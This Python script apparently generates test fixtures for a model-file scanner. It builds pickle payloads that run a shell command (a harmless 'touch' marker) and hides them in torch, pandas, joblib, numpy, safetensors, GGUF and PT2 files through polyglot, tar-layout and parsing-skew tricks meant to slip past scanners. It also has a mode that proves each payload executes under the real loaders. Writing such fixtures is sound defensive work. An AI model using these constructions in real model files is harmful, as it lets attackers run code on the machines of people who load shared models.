"""Fixtures for tests/test_gate_review.py: files an attacker builds from the loaders' own readings.

Run `python tests/data/review/make_review.py` to (re)write them here (the joblib files need joblib and
numpy, e.g. the corpus venv of tests/data/make_corpus.py; without them only the others are written);
`python tests/data/review/make_review.py --prove PYTHON` then loads each malicious one with the real
loaders listed in LOADERS, under an interpreter that has torch, joblib, numpy and pandas, each in a
throwaway process in an empty directory, and fails unless the payload runs (creates the marker
file there, or echoes the corpus payload's word).
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import subprocess
import sys
import tarfile
import tempfile
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).parent
MARKER = "modellock-payload-ran"
COMMAND = f"touch {MARKER}"
_CALL = b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR."
"""`os.system(COMMAND)` as protocol-0 opcodes: ASCII, so it fits a tar name or a JSON region."""


class _Reduce:
    def __reduce__(self) -> tuple[object, ...]:
        return (os.system, (COMMAND,))


PAYLOAD = pickle.dumps(_Reduce(), protocol=2)


def _tar(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def v7_tar(members: list[tuple[str, bytes]]) -> bytes:
    """A tar without the `ustar` magic (the V7 layout): `tarfile` reads it by its header checksum."""
    raw = bytearray(_tar(members))
    pos = 0
    while pos + 512 <= len(raw) and raw[pos : pos + 512] != bytes(512):
        header = raw[pos : pos + 512]
        size = int(header[124:136].strip(b"\0 ") or b"0", 8)
        header[257:265] = bytes(8)
        header[148:156] = b" " * 8
        header[148:156] = b"%06o\0 " % sum(header)
        raw[pos : pos + 512] = header
        pos += 512 + (size + 511) // 512 * 512
    return bytes(raw)


def safetensors_polyglot() -> bytes:
    """A valid safetensors file whose header length's low byte is `V` (UNICODE: reads to a newline):
    the JSON ends with a newline and `}` (EMPTY_DICT), and the tensor's bytes are the payload."""
    for pad in range(256):
        tensor = {"dtype": "U8", "shape": [len(_CALL)], "data_offsets": [0, len(_CALL)]}
        header = {"__metadata__": {"p": "x" * pad}, "w": tensor}
        text = json.dumps(header, separators=(",", ":"))[:-1].encode() + b"\n}"
        if len(text) & 0xFF == ord("V"):
            return struct.pack("<Q", len(text)) + text + _CALL
    raise AssertionError("no padding gives the wanted length")


def _zip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0)), data)  # reproducible bytes
    return buf.getvalue()


GGUF_EMPTY = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
"""A GGUF file with no tensors and no keys: valid, and a place to hang a zip behind."""


CORPUS = HERE.parent / "corpus"


def pt2_truthy_use_pickle() -> bytes:
    """The corpus's pickled-constant PT2 archive (written by torch.export.save), its payload constant
    declared `"use_pickle": 1` with raw-looking metadata, and its sample inputs emptied: torch tests
    the flag's truth and unpickles the record with torch.load(weights_only=False)."""
    source = zipfile.ZipFile(CORPUS / "malicious" / "pt2_pickled_constant_payload.pt2")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        for info in source.infolist():
            data = source.read(info)
            if info.filename.endswith("/model_constants_config.json"):
                config = json.loads(data)
                size = source.getinfo(info.filename.replace("model_constants_config.json", "tensor_0")).file_size
                payload = config["config"]["scale"]
                payload["use_pickle"] = 1
                payload["tensor_meta"].update(dtype=1, sizes=[{"as_int": size}], strides=[{"as_int": 1}])
                config["config"]["scratch"]["use_pickle"] = False
                data = json.dumps(config).encode()
            elif info.filename.endswith("/sample_inputs/model.pt"):
                data = b""
            out.writestr(zipfile.ZipInfo(info.filename, info.date_time), data)
    return buf.getvalue()


# name -> (bytes, the loaders that run the payload)
def fixtures() -> dict[str, tuple[bytes, list[str]]]:
    return {
        "v7_torch_legacy.tar": (v7_tar([("storages", PAYLOAD), ("tensors", b""), ("pickle", b"")]), ["torch"]),
        "v7_pandas.pkl.tar": (v7_tar([("df.pkl", PAYLOAD)]), ["pandas"]),
        "tar_name_is_pickle.joblib": (_tar([(_CALL.decode(), b"abc")]), ["joblib", "numpy", "pickle"]),
        "safetensors_polyglot.bin": (safetensors_polyglot(), ["torch", "joblib", "numpy", "pickle"]),
        # Python's zipfile (pandas' `.zip`) finds the directory at the end, whatever precedes it or
        # follows it (up to 64 KiB after the end record).
        "tar_then_zip.pkl.zip": (_tar([("a.txt", b"hello")]) + _zip("df.pkl", PAYLOAD), ["pandas"]),
        "gguf_then_zip.pkl.zip": (GGUF_EMPTY + _zip("df.pkl", PAYLOAD), ["pandas"]),
        "pt2_use_pickle_1.pt2": (pt2_truthy_use_pickle(), ["export"]),
        "text_zip_text.pkl.zip": (b"hello\n" + _zip("df.pkl", PAYLOAD) + b"trailing text", ["pandas"]),
    }


LOADERS = {
    "torch": "import torch,sys; torch.load(sys.argv[1], weights_only=False)",
    "joblib": "import joblib,sys; joblib.load(sys.argv[1])",
    "numpy": "import numpy,sys; numpy.load(sys.argv[1], allow_pickle=True)",
    "pandas": "import pandas,sys; pandas.read_pickle(sys.argv[1])",
    "pickle": "import pickle,sys; pickle.load(open(sys.argv[1], 'rb'))",
    "export": "import torch,sys; torch.export.load(sys.argv[1])",
}


_JOBLIB_LOADERS = {
    "joblib_piped_payload.joblib": ((), ["joblib"]),
    "joblib_stated_itemsize_payload.joblib": ((), ["joblib"]),
}


def prove(python: str) -> None:
    written = {**fixtures(), **{n: ([], loaders) for n, (_, loaders) in _JOBLIB_LOADERS.items()}}
    for name, (_data, loaders) in written.items():
        for loader in loaders:
            with tempfile.TemporaryDirectory() as cwd:
                command = [python, "-c", LOADERS[loader], str(HERE / name)]
                done = subprocess.run(command, cwd=cwd, capture_output=True, timeout=300)
                # MARKER, or the corpus payload's `echo pwn-<where>` (pt2_pickled_constant_payload.pt2)
                ran = (Path(cwd) / MARKER).exists() or b"pwn-pickled-constant" in done.stdout
            print(f"{name}: {loader}: {'payload ran' if ran else 'NOT RUN'}")
            if not ran:
                raise SystemExit(f"{name} does not run its payload under {loader}")


class _NoTell(io.RawIOBase):
    """A pipe-like sink: joblib writes no alignment byte where it cannot tell()."""

    def __init__(self, sink: io.BytesIO) -> None:
        self.sink = sink

    def writable(self) -> bool:
        return True

    def write(self, b: bytes) -> int:  # type: ignore[override]
        return self.sink.write(b)

    def tell(self) -> int:
        raise io.UnsupportedOperation

    def seekable(self) -> bool:
        return False


def joblib_fixtures() -> dict[str, tuple[bytes, list[str]]]:
    """Files joblib writes itself (safe), and one built on its pipe layout (malicious)."""
    import joblib
    import numpy as np

    def dump(value: object, **kwargs: object) -> bytes:
        buf = io.BytesIO()
        joblib.dump(value, buf, **kwargs)
        return buf.getvalue()

    def piped(value: object) -> bytes:
        buf = io.BytesIO()
        joblib.dump(value, _NoTell(buf), protocol=2)
        return buf.getvalue()

    # joblib pads 1-16 bytes: 16 when the array would start aligned. Find a key length that does it.
    for n in range(64):
        aligned = dump({"k" * n: np.arange(6, dtype=np.float64)})
        if b"K\x10ub\x10" in aligned:
            break
    # Through a pipe the array follows its BUILD at once; joblib skips 80 bytes where a reader that
    # expects the padding byte skips 81: `K` eats the byte that byte-late reader takes as `U`, whose
    # length (`c`, 99) hides the GLOBAL/REDUCE joblib runs.
    head = piped(np.arange(10, dtype=np.int64))[:-1]
    call = b"cposix\nsystem\n(V" + COMMAND.encode() + b" #"
    call += b"x" * (0x64 - len(call) - 3) + b"\ntR"
    # numpy ignores a pickled item size for fixed-size kinds: `f8` stated as 4 bytes still reads 8,
    # so a reader that believed the state skipped 40 bytes of 80, and read on inside the array:
    # a BINBYTES there hides the GLOBAL/REDUCE joblib runs after the array.
    stated = bytearray(dump(np.zeros(10, dtype=np.float64), protocol=2))
    at = stated.index(b"J\xff\xff\xff\xffJ\xff\xff\xff\xff")
    stated[at : at + 5] = b"J" + struct.pack("<i", 4)
    start = stated.index(b"K\x10ub") + 4
    start += 1 + stated[start]
    run = b"cposix\nsystem\n(V" + COMMAND.encode() + b"\ntR"
    array = bytes(40) + b"B" + struct.pack("<I", 35 + len(run)) + bytes(35)
    flexible = {
        "u": np.array(["ab", "cdefg"]),
        "s": np.array([b"x", b"yz"]),
        "v": np.zeros(3, dtype="V5"),
        "rec": np.zeros(2, dtype=[("a", "<i4"), ("b", ">f8", (2,)), ("c", "U3")]),
    }
    return {
        "joblib_flexible.joblib": (dump(flexible), []),
        "joblib_stated_itemsize_payload.joblib": (bytes(stated[:start]) + array + run + b"0.", ["joblib"]),
        "joblib_pad16.joblib": (aligned, []),
        "joblib_pad16_zlib.joblib": (zlib.compress(aligned), []),
        "joblib_protocol1.joblib": (dump({"a": np.arange(5), "b": np.ones((2, 3))}, protocol=1), []),
        "joblib_piped.joblib": (piped({"a": np.arange(5)}), []),
        "joblib_piped_payload.joblib": (head + b"KU" + call + b"0.", ["joblib"]),
    }


def main() -> None:
    if sys.argv[1:2] == ["--prove"]:
        prove(sys.argv[2])
        return
    for name, (data, _loaders) in fixtures().items():
        (HERE / name).write_bytes(data)
    try:
        extra = joblib_fixtures()
    except ImportError:
        return
    for name, (data, _loaders) in extra.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
